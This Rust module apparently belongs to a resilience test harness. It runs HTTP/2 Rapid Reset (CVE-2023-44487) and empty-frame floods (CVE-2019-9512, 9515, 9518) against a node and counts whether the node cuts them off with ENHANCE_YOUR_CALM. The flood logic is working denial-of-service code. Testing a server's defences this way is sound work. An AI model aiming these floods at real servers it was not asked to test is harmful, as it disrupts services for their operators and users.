//! HTTP/2 frames that cost the node more than their sender: streams that are reset at once (CVE-2023-44487), and frames that ask for
//! nothing (CVE-2019-9512, 9515, 9518).

use std::cell::Cell;
use std::io;
use std::rc::Rc;
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncWriteExt, split};
use tokio::task::spawn_local;
use tokio::time::sleep;

use super::dial::{Buffer, Door};
use super::http2::{
    self, CANCEL, DATA, END_HEADERS, END_STREAM, ENHANCE_YOUR_CALM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE,
    LAST_STREAM, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE,
};
use super::tally::{Attack, Attacker, Pace};

/// Connections at once, of each flood.
const CONNECTIONS: usize = 4;
const BATCH: u32 = 50;
/// Frames of a kind; half of one core of a node that would obey.
const FRAMES_PER_SECOND: u32 = 20_000;
/// Before a flood comes back: handshakes are not the point.
const BACK_AFTER: Duration = Duration::from_millis(50);

/// What a flood consists of.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Flood {
    Reset,
    Pings,
    Settings,
    EmptyData,
    Priorities,
    Windows,
}

impl Flood {
    const fn sent(self) -> &'static str {
        match self {
            Self::Reset => "streams reset at once",
            Self::Pings => "PING",
            Self::Settings => "SETTINGS",
            Self::EmptyData => "empty DATA",
            Self::Priorities => "PRIORITY",
            Self::Windows => "WINDOW_UPDATE",
        }
    }

    /// What is counted when the node ends it with `ENHANCE_YOUR_CALM`.
    const fn calmed(self) -> &'static str {
        match self {
            Self::Reset => "calmed",
            Self::Pings => "calmed PING",
            Self::Settings => "calmed SETTINGS",
            Self::EmptyData => "calmed DATA",
            Self::Priorities => "calmed PRIORITY",
            Self::Windows => "calmed WINDOW_UPDATE",
        }
    }

    /// What comes after the preface.
    fn begin(self, out: &mut Vec<u8>) {
        if self == Self::EmptyData {
            let post = http2::post("/http-bind?room=flood");
            http2::push(out, HEADERS, END_HEADERS, 1, &post);
        }
    }

    /// One frame more, or one stream and its reset.
    fn frame(self, out: &mut Vec<u8>, stream: u32) {
        match self {
            Self::Reset => {
                let get = http2::get("/http-bind?room=reset");
                http2::push(out, HEADERS, END_HEADERS | END_STREAM, stream, &get);
                http2::push(out, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
            }
            Self::Pings => http2::push(out, PING, 0, 0, &[7; 8]),
            Self::Settings => {
                let settings = http2::settings_payload(&[(INITIAL_WINDOW_SIZE, 65_535)]);
                http2::push(out, SETTINGS, 0, 0, &settings);
            }
            Self::EmptyData => http2::push(out, DATA, 0, 1, &[]),
            Self::Priorities => http2::push(out, PRIORITY, 0, stream, &[0, 0, 0, 0, 16]),
            Self::Windows => http2::push(out, WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
        }
    }
}

/// Of each frame that asks for nothing, what is counted when its flood was ended.
pub(super) const CALMED: [&str; 5] = [
    Flood::Pings.calmed(),
    Flood::Settings.calmed(),
    Flood::EmptyData.calmed(),
    Flood::Priorities.calmed(),
    Flood::Windows.calmed(),
];

/// Streams that are asked for and not wanted.
pub(super) fn rapid_reset(attacker: Rc<Attacker>) -> Attack {
    Box::pin(flood(attacker, &[Flood::Reset]))
}

/// Frames that ask for nothing.
pub(super) fn idle_frames(attacker: Rc<Attacker>) -> Attack {
    const ALL: &[Flood] =
        &[Flood::Pings, Flood::Settings, Flood::EmptyData, Flood::Priorities, Flood::Windows];
    Box::pin(flood(attacker, ALL))
}

async fn flood(attacker: Rc<Attacker>, kinds: &'static [Flood]) {
    for kind in kinds {
        let pace = Pace::per_second(FRAMES_PER_SECOND);
        for _ in 0..CONNECTIONS {
            let (attacker, pace) = (Rc::clone(&attacker), Rc::clone(&pace));
            drop(spawn_local(async move {
                while !attacker.is_over() {
                    // The reader has counted how it ended.
                    connection(&attacker, *kind, &pace).await.ok();
                    sleep(BACK_AFTER).await;
                }
            }));
        }
    }
    attacker.end().await;
}

/// Floods one connection to its end, which its reader counts.
async fn connection(attacker: &Rc<Attacker>, kind: Flood, pace: &Pace) -> io::Result<()> {
    let (reader, mut writer) = split(attacker.dialer.open(Door::Http2, Buffer::Usual).await?);
    attacker.sent("connections", 1);
    let ended = Rc::new(Cell::new(false));
    let watching = spawn_local(watch(reader, Rc::clone(attacker), kind.calmed(), Rc::clone(&ended)));
    let mut out = http2::hello(&[]);
    kind.begin(&mut out);
    let mut stream = 1;
    let flooding = async {
        while !ended.get() && !attacker.is_over() && stream < LAST_STREAM {
            pace.take(BATCH).await;
            for _ in 0..BATCH {
                kind.frame(&mut out, stream);
                stream += 2;
            }
            writer.write_all(&out).await?;
            writer.flush().await?;
            attacker.sent(kind.sent(), u64::from(BATCH));
            out.clear();
        }
        Ok(())
    };
    let flooded = flooding.await;
    // What the node had said before it closed is still to be read.
    tokio::time::timeout(BACK_AFTER * 4, watching).await.ok();
    flooded
}

/// Reads what the node says until the connection is over, and counts how it ended.
pub(super) async fn watch(
    mut reader: impl AsyncRead + Unpin,
    attacker: Rc<Attacker>,
    calmed: &'static str,
    ended: Rc<Cell<bool>>,
) {
    let mut said = false;
    while let Ok(frame) = http2::read(&mut reader).await {
        match (frame.kind, frame.error()) {
            (GOAWAY, error) if !said => {
                attacker.seen(if error == Some(ENHANCE_YOUR_CALM) { calmed } else { "another GOAWAY" }, 1);
                said = true;
            }
            (HEADERS, _) => match http2::status(&frame.payload) {
                Some(431) => attacker.seen("431", 1),
                Some(400..500) => attacker.seen("another 4xx", 1),
                Some(500..) => attacker.seen("5xx", 1),
                _ => {}
            },
            _ => {}
        }
    }
    if !said {
        attacker.seen("closed without a word", 1);
    }
    ended.set(true);
}
